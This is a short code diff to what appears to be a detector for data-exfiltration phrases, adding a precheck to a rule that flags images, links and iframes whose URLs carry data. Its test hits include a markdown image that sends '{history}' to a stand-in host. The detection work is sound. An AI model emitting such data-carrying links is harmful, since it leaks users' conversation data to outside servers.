@@ -1,4 +1,4 @@
-import { isExfiltrationUrl } from '../../matching/exfiltration-url.ts';
+import { isExfiltrationUrl, mayCarryData } from '../../matching/exfiltration-url.ts';
 import {
   anchorWords,
   anchorWordsBefore,
@@ -22,6 +22,7 @@ export const exfiltration = buildPhraseDetectors('exfiltration', [
     description: 'An image, link or style sheet whose address carries data, or a place for data.',
     anchors: ['!\\[', '(?i)<img', '(?i)<link', '\\]: http', '\\]\\(http', '(?i)<iframe', '(?i)url\\(http'],
     pattern: `(?:!?\\[[^\\]\\n]{0,80}\\]\\(|\\]\\(|!?\\[[^\\]\\n]{0,80}\\]\\[[^\\]\\n]{0,20}\\]\\s{0,4}\\[[^\\]\\n]{0,20}\\]: |\\]: |<(?:img|link|iframe)\\b[^>]{0,120}?(?:src|href)=["']?|url\\()(?<value>https?://(?:${URL_UNITS}|<[\\w ]{1,40}>){4,500})`,
+    precheck: mayCarryData,
     validate: isExfiltrationUrl,
     hits: [
       '![x](«https://pics.example/a.png?q={history}»)',
